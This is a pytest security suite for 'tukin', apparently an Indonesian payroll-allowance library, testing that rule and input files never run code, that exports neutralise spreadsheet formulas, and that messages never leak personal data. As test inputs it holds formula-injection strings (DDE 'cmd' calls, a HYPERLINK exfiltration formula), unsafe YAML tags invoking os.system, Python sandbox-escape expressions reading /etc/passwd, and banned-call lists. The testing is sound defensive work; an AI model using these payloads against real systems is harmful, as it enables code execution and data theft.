"""Security: input never runs code, exports never run formulas, messages never leak rows.

* Rule files and input files are data: no YAML tag builds an object, no formula in a rule file
  reaches Python, no spreadsheet formula is evaluated, and the library's own source never
  calls ``eval``/``exec``, unpickles, or shells out (checked on the syntax tree).
* Every spreadsheet tukin writes (result workbook and CSV, payroll list, monitoring report)
  neutralises text a spreadsheet would run as a formula: ``=``, ``+``, ``-``, ``@``, tab,
  carriage return and their full-width forms.
* Error messages, reports and rejection lists name the cell, never the whole row: a name or a
  bank account next to a bad value does not end up in a log.
* The runtime dependencies are few, declared with lower bounds, from the package index only.
"""

from __future__ import annotations

import ast
import csv
import io as _io
import re
import sys
import tomllib
import warnings
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from source_trees import parsed

import tukin
from tukin import payroll
from tukin.calc.engine import calculate
from tukin.dataset import Dataset
from tukin.errors import CalculationError, DatasetValidationError, RuleSetError, TukinError
from tukin.io import read_excel, write_result
from tukin.io.safe import DANGEROUS_PREFIXES, neutralise, neutralise_frame
from tukin.ruleset.load import load_ruleset

ROOT = Path(__file__).resolve().parents[1]
SOURCE = ROOT / "tukin"

ATTACKS = (
    '=HYPERLINK("http://example.invalid/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
NUMBER = re.compile(r"-?\d+(\.\d+)?")

RULES = """
name: keamanan
parameters:
  base: {unit: rupiah, value: {6: 2681989, 12: 7444800, 15: 13626776}, reference: contoh}
steps:
  - {id: dasar, type: lookup, key: grade, table: $base, unit: rupiah}
  - {id: potongan, type: formula, expr: "min(1, 0.005 * tl1)"}
  - {id: kotor, type: formula, expr: "dasar * (1 - 0.4 * potongan)"}
  - {id: tpp, type: round, input: kotor}
"""


def hostile_tables() -> dict[str, pd.DataFrame]:
    """A regency whose every free-text field an officer types carries a formula attack."""
    n = len(ATTACKS)
    nips = [f"19800101200501{i:04d}" for i in range(1, n + 1)]
    return {
        "units": pd.DataFrame({"unit_id": ["U1"], "name": ["=cmd|' /C calc'!A0"]}),
        "positions": pd.DataFrame(
            {
                "position_id": ["J1", "J2"],
                "name": ["@Kepala", "-Staf"],
                "unit_id": ["U1", "U1"],
                "kind": ["jpt", "pelaksana"],
                "grade": [15, 6],
            }
        ),
        "employees": pd.DataFrame(
            {
                "nip": [*nips, "=1+1", "198001012005019999"],
                "name": [*ATTACKS, "Rahayu", "+Budi"],
                "position_id": ["J1"] + ["J2"] * (n - 1) + ["J2", "=HYPERLINK(1)"],
                "status": ["pns"] * (n + 2),
            }
        ),
        "attendance": pd.DataFrame({"nip": nips, "period": ["2025-10"] * n, "tl1": range(n)}),
    }


def assert_no_formula_cells(path: Path) -> int:
    """Every cell of every sheet: no formula, no text a spreadsheet would run; the cell count."""
    wb = openpyxl.load_workbook(path)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                seen += 1
                where = f"{path.name}!{ws.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_PREFIXES), f"{where}: {cell.value!r}"
    return seen


def assert_no_formula_fields(path: Path) -> int:
    """Every field of a CSV file: numbers, or text that does not start a formula."""
    text = path.read_text(encoding="utf-8")
    seen = 0
    for record in csv.reader(_io.StringIO(text, newline="")):
        for field in record:
            seen += 1
            if NUMBER.fullmatch(field):
                continue
            assert not field.startswith(DANGEROUS_PREFIXES), f"{path.name}: {field!r}"
    return seen


@pytest.fixture(scope="module")
def hostile() -> Any:
    ds = Dataset.from_frames(**hostile_tables())
    return ds, calculate(ds, load_ruleset(RULES), "2025-10")


# -- code execution --------------------------------------------------------------------------


class TestNoCodeRuns:
    """Rule files, formulas and input files are read as data; nothing in them runs."""

    @pytest.mark.parametrize(
        "tag",
        [
            "!!python/object/apply:os.system ['touch {marker}']",
            "!!python/object/new:subprocess.Popen [['touch', '{marker}']]",
            "!!python/name:os.system",
            "!!python/module:os",
            "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch {marker}']",
            "!custom {{a: 1}}",
        ],
    )
    def test_yaml_tags_are_refused(self, tmp_path: Path, tag: str) -> None:
        """A tag that would build an object is refused and the command never runs."""
        marker = tmp_path / "ran"
        text = f"name: x\ndescription: {tag.format(marker=marker)}\nsteps: []\n"
        with pytest.raises(RuleSetError) as info:
            load_ruleset(text)
        assert info.value.code == "unsafe_rule_file"
        assert not marker.exists()

    @pytest.mark.parametrize(
        "expr",
        [
            "__import__('os').system('true')",
            "().__class__.__bases__[0].__subclasses__()",
            "open('/etc/passwd')",
            "(lambda: 1)()",
            "[x for x in (1, 2)]",
            "grade.real",
            "globals()",
            "eval('1')",
            "dasar if True else 0; 1",
        ],
    )
    def test_formulas_are_not_python(self, expr: str) -> None:
        """A formula step outside the arithmetic whitelist is refused at load."""
        text = f"name: x\nsteps:\n  - id: a\n    type: formula\n    expr: {expr!r}\n"
        with pytest.raises(RuleSetError) as info:
            load_ruleset(text)
        assert info.value.problems[0].key == "steps.0.expr"

    @pytest.mark.parametrize(
        ("where", "written"),
        [
            ("parameter", "1e999999999"),  # YAML float: a Decimal of a billion-digit value
            ("parameter", "'1e999999999'"),  # text
            ("parameter", "1e-999999999"),
            ("parameter", "'-1E+999999999%'"),
            ("table", "1e999999999"),
            ("formula", "1e999999999"),
            ("formula", "1e-999999999"),
            ("formula", "1e300"),  # a float constant: 0.0 or an overflow on the fast path
            ("parameter", "10000000000000000000000"),  # beyond the exact whole numbers
            ("ceiling", "100000000000000000000"),  # once an OverflowError into int64
        ],
    )
    def test_numbers_beyond_the_limits_are_refused_fast(self, where: str, written: str) -> None:
        """A number whose exact value is enormous (an exponent of a billion: a Fraction of a
        billion digits) or beyond the whole numbers tukin computes exactly is refused while
        the file loads, naming the key and the limit in both languages, in bounded time."""
        import time

        step = {
            "parameter": "  - {id: a, type: lookup, key: grade, table: {6: $p}, unit: rupiah}",
            "table": f"  - {{id: a, type: lookup, key: grade, table: {{6: {written}}}}}",
            "formula": f"  - {{id: a, type: formula, expr: 'grade * {written}'}}",
            "ceiling": "  - {id: d, type: lookup, key: grade, table: {6: 1000}, unit: rupiah}\n"
            f"  - {{id: a, type: ceiling, input: d, amount: {written}}}",
        }[where]
        named = (
            f"parameters:\n  p: {{value: {written}, reference: r}}\n"
            if where == "parameter"
            else ""
        )
        text = f"name: x\n{named}steps:\n{step}\n"
        started = time.perf_counter()
        with pytest.raises(RuleSetError) as info:
            load_ruleset(text)
        assert time.perf_counter() - started < 5
        [problem] = info.value.problems
        said = problem.message_en + problem.message_id
        assert ("too large" in said and "terlalu besar" in said) or (
            "decimal places" in said and "angka desimal" in said
        ), said
        assert "9,007,199,254,740,991" in said or "40" in said

    def test_spreadsheet_formulas_are_never_evaluated(self, tmp_path: Path) -> None:
        """A DDE formula in an input workbook is reported as a formula, never run or trusted."""
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = "Pegawai"
        ws.append(["NIP", "Nama", "ID Jabatan", "Status"])
        ws.append(["198001012005011001", "=cmd|' /C calc'!A0", "J1", "PNS"])
        path = tmp_path / "isian.xlsx"
        wb.save(path)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            ds = read_excel(path, lang="en")
        codes = {p.code for p in ds.report.problems}
        assert "formula_no_value" in codes
        assert len(ds["employees"]) == 0

    def test_cells_stay_text(self) -> None:
        """A cell holding a formula-like text is kept as that text: data is never evaluated."""
        ds = Dataset.from_frames(**hostile_tables())
        assert set(ATTACKS[:3]) <= set(ds["employees"]["name"])

    def test_source_never_evaluates_or_unpickles(self) -> None:
        """No eval/exec/compile, no pickle/marshal/shelve/subprocess, no unsafe YAML loading."""
        banned_calls = {"eval", "exec", "compile", "__import__", "execfile"}
        banned_modules = {"pickle", "cPickle", "dill", "marshal", "shelve", "subprocess", "pty"}
        banned_attrs = {
            ("yaml", "load"),
            ("yaml", "unsafe_load"),
            ("yaml", "full_load"),
            ("yaml", "load_all"),
            ("yaml", "UnsafeLoader"),
            ("yaml", "FullLoader"),
            ("yaml", "Loader"),
            ("os", "system"),
            ("os", "popen"),
            ("pd", "read_pickle"),
            ("pandas", "read_pickle"),
        }
        found: list[str] = []
        for path, tree in parsed(SOURCE):
            rel = path.relative_to(ROOT)
            for node in ast.walk(tree):
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                    if node.func.id in banned_calls:
                        found.append(f"{rel}:{node.lineno} calls {node.func.id}")
                    for kw in node.keywords:
                        if kw.arg == "allow_pickle":
                            found.append(f"{rel}:{node.lineno} allow_pickle")
                if isinstance(node, ast.Import | ast.ImportFrom):
                    names = [a.name for a in node.names]
                    module = node.module if isinstance(node, ast.ImportFrom) else None
                    for name in [module, *names]:
                        if name and name.split(".")[0] in banned_modules:
                            found.append(f"{rel}:{node.lineno} imports {name}")
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and (node.value.id, node.attr) in banned_attrs
                ):
                    found.append(f"{rel}:{node.lineno} uses {node.value.id}.{node.attr}")
        assert found == []

    def test_dynamic_imports_are_the_known_ones(self) -> None:
        """Modules are imported by name only for tukin's own lazy modules and rule plug-ins."""
        allowed = {"tukin/cli.py", "tukin/rules/registry.py"}
        users = set()
        for path in SOURCE.rglob("*.py"):
            if "import_module" in path.read_text(encoding="utf-8"):
                users.add(str(path.relative_to(ROOT)))
        assert users <= allowed


# -- formula injection in exports ------------------------------------------------------------


class TestFormulaInjection:
    """Text from the inputs never becomes a formula in a spreadsheet tukin writes."""

    def test_neutralise_every_prefix(self) -> None:
        """Each dangerous prefix gets a leading apostrophe; other text and numbers are kept."""
        for attack in ATTACKS:
            assert neutralise(attack).startswith("'")
        assert neutralise("Budi") == "Budi" and neutralise(-5) == -5 and neutralise(None) is None

    def test_neutralise_frame(self) -> None:
        """Text cells and column names of a frame are neutralised; numbers are not."""
        frame = pd.DataFrame({"=name": ["=1", "ok", None], "n": [-1, 2, 3]})
        out = neutralise_frame(frame)
        assert list(out.columns) == ["'=name", "n"]
        assert out.iloc[:, 0].tolist()[:2] == ["'=1", "ok"] and out["n"].tolist() == [-1, 2, 3]

    def test_result_workbook(self, hostile: Any, tmp_path: Path) -> None:
        """Summary, detail, rejected, receipt and explanation sheets hold no formula."""
        _, result = hostile
        nips = list(result.to_frame()["nip"][:2])
        path = write_result(result, tmp_path / "hasil.xlsx", explain_nips=nips)
        assert assert_no_formula_cells(path) > 50
        assert len(result.rejected) == 2  # the hostile NIP and the hostile position took part

    def test_result_csv_and_sidecars(self, hostile: Any, tmp_path: Path) -> None:
        """Paid rows and rejected rows as CSV: no field starts a formula."""
        _, result = hostile
        write_result(result, tmp_path / "hasil.csv")
        assert assert_no_formula_fields(tmp_path / "hasil.csv") > 20
        assert assert_no_formula_fields(tmp_path / "hasil.rejected.csv") > 5

    def test_payroll_list(self, hostile: Any, tmp_path: Path) -> None:
        """The payroll list (daftar nominatif), workbook and CSV, holds no formula."""
        ds, result = hostile
        assert assert_no_formula_cells(payroll.to_excel(result, tmp_path / "daftar.xlsx", ds)) > 20
        assert assert_no_formula_fields(payroll.to_csv(result, tmp_path / "daftar.csv", ds)) > 20

    def test_monitoring_report(self, tmp_path: Path) -> None:
        """The monitoring workbook neutralises the officials' and work items' names."""
        from tukin.monitoring.excel import export_excel

        report = pd.DataFrame(
            {"name": list(ATTACKS), "official": ["@x"] * len(ATTACKS), "score": range(len(ATTACKS))}
        )
        path = export_excel(tmp_path / "pantau.xlsx", report, actions=report)
        assert assert_no_formula_cells(path) >= 2 * 3 * len(ATTACKS)


# -- personal data in messages ---------------------------------------------------------------

PRIVATE = ("Siti Rahayu Wulandari", "BRI-0123-4567-8901", "Jl. Melati No. 7", "3171234567890001")


def private_tables() -> dict[str, pd.DataFrame]:
    """Employees with a name, bank account, address and NIK beside a bad value in each row."""
    rows = []
    for i, bad in enumerate(["123", "198001012005011002", "198001012005011003"]):
        rows.append(
            {
                "nip": bad,
                "name": f"{PRIVATE[0]} {i}",
                "position_id": ["J1", "J9", "J1"][i],
                "status": ["pns", "pns", "honorer"][i],
                "bank_account": PRIVATE[1],
                "address": PRIVATE[2],
                "nik": PRIVATE[3],
            }
        )
    return {
        "units": pd.DataFrame({"unit_id": ["U1"], "name": ["Dinas"]}),
        "positions": pd.DataFrame(
            {
                "position_id": ["J1"],
                "name": ["Staf"],
                "unit_id": ["U1"],
                "kind": ["pelaksana"],
                "grade": [6],
            }
        ),
        "employees": pd.DataFrame(rows),
    }


def assert_private_free(text: str) -> None:
    for secret in PRIVATE:
        assert secret not in text, f"{secret!r} leaked into: {text[:200]!r}"


class TestNoRowDumps:
    """Messages and reports point at the cell, never print the whole row."""

    def test_validation_problems_and_reports(self) -> None:
        """Problems, reports, rejected lists and the strict error carry no private column."""
        tables = private_tables()
        ds = Dataset.from_frames(**tables)
        assert len(ds.report) >= 3
        for lang in ("en", "id"):
            for p in ds.report.problems:
                assert_private_free(p.describe(lang))
                assert_private_free(repr(p.to_dict(lang)))
            assert_private_free(ds.report.describe(lang, limit=100))
            assert_private_free(ds.report.to_frame(lang).to_csv())
        assert_private_free(ds.rejected.to_csv())
        assert_private_free(repr(ds))
        with pytest.raises(DatasetValidationError) as info:
            Dataset.from_frames(**tables, mode="strict")
        assert_private_free(str(info.value))
        assert_private_free(info.value.message("id"))

    def test_calculation_errors(self) -> None:
        """A step failing on a private column names the step, not the row's values."""
        tables = private_tables()
        tables["employees"] = tables["employees"].iloc[[0]].assign(nip="198001012005011001")
        ds = Dataset.from_frames(**tables)
        rules = "name: x\nsteps:\n  - {id: a, type: formula, expr: bank_account * 2}\n"
        with pytest.raises(TukinError) as info:
            calculate(ds, load_ruleset(rules), "2025-10")
        for lang in ("en", "id"):
            assert_private_free(info.value.message(lang))
        assert "step 'a'" in info.value.message("en")

    def test_rejection_reasons(self) -> None:
        """Reasons in Result.rejected and in explain() errors carry no private column."""
        tables = private_tables()
        valid = tables["employees"].iloc[[0]].assign(nip="198001012005011004", name=PRIVATE[0])
        tables["employees"] = pd.concat([tables["employees"], valid], ignore_index=True)
        ds = Dataset.from_frames(**tables)
        rules = (
            "name: x\nsteps:\n  - {id: dasar, type: lookup, key: grade, table: {12: 5}, unit: rupiah}\n"
            "  - {id: tpp, type: round, input: dasar}\n"
        )
        result = calculate(ds, load_ruleset(rules), "2025-10")
        assert "missing_base" in set(result.rejected["code"])
        assert_private_free(result.rejected["reason"].to_csv())
        for nip in result.rejected["nip"]:
            with pytest.raises(TukinError) as info:
                result.explain(str(nip))
            assert_private_free(str(info.value))

    def test_reader_problems(self, tmp_path: Path) -> None:
        """A reader's located problems name sheet, row and column, not the row's other cells."""
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = "Pegawai"
        ws.append(["NIP", "Nama", "ID Jabatan", "Status", "bank_account"])
        ws.append([1.98001012005011e17, PRIVATE[0], "J1", "PNS", PRIVATE[1]])
        path = tmp_path / "isian.xlsx"
        wb.save(path)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            ds = read_excel(path, lang="en")
        assert any(p.code == "nip_as_number" for p in ds.report.problems)
        assert_private_free(ds.report.describe("en", limit=100))
        assert_private_free(ds.rejected.to_csv())

    def test_library_does_not_log(self) -> None:
        """tukin writes no log records: personal data cannot end up in a log file by it."""
        users = [
            str(p.relative_to(ROOT))
            for p in SOURCE.rglob("*.py")
            if re.search(r"^\s*(import logging|from logging)", p.read_text(encoding="utf-8"), re.M)
        ]
        assert users == []


# -- dependencies ----------------------------------------------------------------------------


class TestDependencies:
    """Few runtime dependencies, each a well-kept project from the package index."""

    PYPROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))

    def test_runtime_dependencies_are_few_and_bounded(self) -> None:
        """At most eight, each with a lower bound, none from a URL or a VCS."""
        deps = self.PYPROJECT["project"]["dependencies"]
        assert len(deps) <= 8, deps
        for dep in deps:
            assert ">=" in dep, f"{dep} has no lower bound"
            assert not re.search(r"@|://|git\+", dep), f"{dep} is not from the package index"

    def test_known_projects_only(self) -> None:
        """The runtime dependencies are the scientific-Python core and its file readers."""
        names = {
            re.split(r"[<>=!~\[ ;]", d, maxsplit=1)[0].lower()
            for d in self.PYPROJECT["project"]["dependencies"]
        }
        assert names <= {
            "pydantic",
            "pandas",
            "numpy",
            "pyyaml",
            "openpyxl",
            "matplotlib",
            "pyarrow",
        }

    def test_third_party_imports_are_declared(self) -> None:
        """Every third-party module tukin imports is a declared dependency or an extra."""
        declared = {
            "pydantic",
            "pydantic_core",
            "pandas",
            "numpy",
            "yaml",
            "openpyxl",
            "matplotlib",
        }
        extras = {
            "pyarrow",
            "dask",
            "distributed",
            "openfisca_core",
            "nbformat",
            "nbclient",
            "IPython",
        }
        stdlib = set(sys.stdlib_module_names)
        found: dict[str, str] = {}
        for path, tree in parsed(SOURCE):
            for node in ast.walk(tree):
                if isinstance(node, ast.Import):
                    tops = [a.name.split(".")[0] for a in node.names]
                elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                    tops = [node.module.split(".")[0]]
                else:
                    continue
                for top in tops:
                    if top not in stdlib and top != "tukin":
                        found.setdefault(top, str(path.relative_to(ROOT)))
        unknown = {k: v for k, v in found.items() if k not in declared | extras}
        assert unknown == {}

    def test_installed_versions_meet_the_bounds(self) -> None:
        """The installed dependencies satisfy the declared lower bounds."""
        from importlib.metadata import version

        for dep in self.PYPROJECT["project"]["dependencies"]:
            name, bound = re.split(r">=", dep, maxsplit=1)
            installed = tuple(int(x) for x in re.findall(r"\d+", version(name.strip()))[:2])
            wanted = tuple(int(x) for x in re.findall(r"\d+", bound)[:2])
            assert installed >= wanted, f"{name} {installed} < {wanted}"


def test_public_error_classes_are_tukin_errors() -> None:
    """Every error tukin exports subclasses TukinError (callers catch one base)."""
    for name in tukin.__all__:
        obj = getattr(tukin, name)
        if isinstance(obj, type) and issubclass(obj, Exception) and not issubclass(obj, Warning):
            assert issubclass(obj, TukinError), name
    assert issubclass(CalculationError, TukinError)
